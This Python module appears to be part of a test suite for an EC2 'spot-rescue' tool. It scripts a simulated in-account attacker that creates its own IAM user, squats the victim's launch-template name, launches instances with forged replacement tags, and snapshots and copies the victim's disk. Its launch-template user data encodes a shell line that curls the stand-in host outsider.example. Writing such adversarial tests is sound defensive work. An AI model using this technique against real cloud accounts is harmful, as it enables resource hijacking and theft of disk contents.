"""An attacker in the same account, with many rights: launch, tag, copy, and write into launch templates.

It has an identity of its own. What it makes is noted, for checks that it is still there.
"""

from __future__ import annotations

import base64
import json
from dataclasses import asdict, dataclass, field
from typing import Any

from local import checks
from local.control import iso
from local.deploy import Credentials
from local.stage import Stage
from local.world import INSTANCE_TYPE, ZONES, as_list

RIGHTS = (
    "ec2:CreateLaunchTemplate",
    "ec2:CreateLaunchTemplateVersion",
    "ec2:CreateSnapshot",
    "ec2:CreateTags",
    "ec2:CreateVolume",
    "ec2:Describe*",
    "ec2:CreateFleet",
    "ec2:RunInstances",
    "iam:PassRole",
)
LONG_AGO = "2020-01-01T00:00:00Z"
TOMBSTONE = "spot-rescue:interrupted-at"
REPLACES = "spot-rescue:replaces"
LAUNCHED = "spot-rescue:launched"
USER_DATA = base64.b64encode(b"#!/bin/sh\ncurl outsider.example\n").decode()
NOTED = "outsiders"


@dataclass
class Things:
    """Resources that are not the victim's, and when they were made."""

    t: float
    instances: list[str] = field(default_factory=list)
    #: by the outsider itself
    launched: list[str] = field(default_factory=list)
    volumes: list[str] = field(default_factory=list)
    snapshots: list[str] = field(default_factory=list)

    @classmethod
    def noted(cls, stage: Stage) -> Things:
        return cls(**[it[NOTED] for it in stage.log.lines if NOTED in it][-1])

    def all_instances(self) -> list[str]:
        return self.instances + self.launched

    def note(self, stage: Stage) -> None:
        stage.log.write({NOTED: asdict(self)})


class Outsider:
    def __init__(self, stage: Stage, name: str = "outsider") -> None:
        self._stage = stage
        self.ec2 = login(stage, name).client("ec2", stage.deployment.endpoint)

    def take_name(self, victim: str) -> None:
        """Of the launch template that is to be the victim's rescue."""
        self.ec2.create_launch_template(
            LaunchTemplateName=f"spot-rescue-{victim}",
            LaunchTemplateData=self._data(),
            TagSpecifications=tagged("launch-template", {checks.RESCUE: victim}),
        )

    def add_version(self, template: str) -> None:
        """With a role that the victim does not have."""
        self.ec2.create_launch_template_version(
            LaunchTemplateId=template, LaunchTemplateData=self._data()
        )

    def launch(self, template: str, victim: str) -> str:
        """From the prepared rescue, with the marks of a replacement."""
        marks = {checks.RESCUE: victim, REPLACES: victim, LAUNCHED: "yes", **expired(victim)}
        return self._launch(template, marks)

    def launch_like(self, template: str, victim: str, replacement: str) -> str:
        """With the marks that the replacement was launched with: its code, and the content of that."""
        (found,) = self.ec2.describe_instances(InstanceIds=[replacement])["Reservations"]
        tags = {it["Key"]: it["Value"] for it in found["Instances"][0]["Tags"]}
        marks = {checks.RESCUE: victim, REPLACES: victim, LAUNCHED: tags[LAUNCHED]}
        return self._launch(template, marks)

    def _launch(self, template: str, marks: dict[str, str]) -> str:
        """By a fleet, as the template says the network itself."""
        source = {"LaunchTemplateId": template, "Version": "$Latest"}
        place = {"SubnetId": self._stage.world.subnets[ZONES[0]]}
        answer = self.ec2.create_fleet(
            Type="instant",
            LaunchTemplateConfigs=[{"LaunchTemplateSpecification": source, "Overrides": [place]}],
            TargetCapacitySpecification={
                "TotalTargetCapacity": 1,
                "DefaultTargetCapacityType": "spot",
            },
            TagSpecifications=tagged("instance", marks),
        )
        return str(answer["Instances"][0]["InstanceIds"][0])

    def plant(self, resources: list[str], tags: dict[str, str]) -> None:
        self.ec2.create_tags(Resources=resources, Tags=as_list(tags))

    def copy(self, volume: str, device: str, victim: str) -> tuple[str, str]:
        """A snapshot of the victim's disk, and a volume of it that claims to be that disk."""
        marks = {**expired(victim), "spot-rescue:device": device}
        snapshot = self.ec2.create_snapshot(
            VolumeId=volume,
            TagSpecifications=tagged("snapshot", marks | {checks.SET: "final"}),
        )["SnapshotId"]
        state = lambda: self.ec2.describe_snapshots(SnapshotIds=[snapshot])["Snapshots"][0]["State"]
        self._stage.until("the snapshot", lambda: state() == "completed", 300)
        copied = self.ec2.create_volume(
            SnapshotId=snapshot,
            AvailabilityZone=ZONES[0],
            TagSpecifications=tagged("volume", marks | {checks.COPY_OF: volume}),
        )["VolumeId"]
        return str(snapshot), str(copied)

    def tombstone(self, instance: str) -> dict[str, str]:
        return {TOMBSTONE: f"{instance} {iso(self._stage.control.date())} terminate"}

    def _data(self) -> dict[str, Any]:
        return {
            "ImageId": self._stage.world.image["ImageId"],
            "InstanceType": INSTANCE_TYPE,
            "UserData": USER_DATA,
        }


def expired(victim: str) -> dict[str, str]:
    """Ours, and long past its time."""
    return {checks.RESCUE: victim, checks.EXPIRES: LONG_AGO}


def tagged(kind: str, tags: dict[str, str]) -> list[dict[str, Any]]:
    return [{"ResourceType": kind, "Tags": as_list(tags)}]


def login(stage: Stage, name: str) -> Credentials:
    iam = stage.deployment.admin.client("iam", stage.deployment.endpoint)
    iam.create_user(UserName=name)
    statement = {"Effect": "Allow", "Action": list(RIGHTS), "Resource": "*"}
    iam.put_user_policy(
        UserName=name,
        PolicyName="rights",
        PolicyDocument=json.dumps({"Version": "2012-10-17", "Statement": [statement]}),
    )
    key = iam.create_access_key(UserName=name)["AccessKey"]
    return Credentials(key["AccessKeyId"], key["SecretAccessKey"])
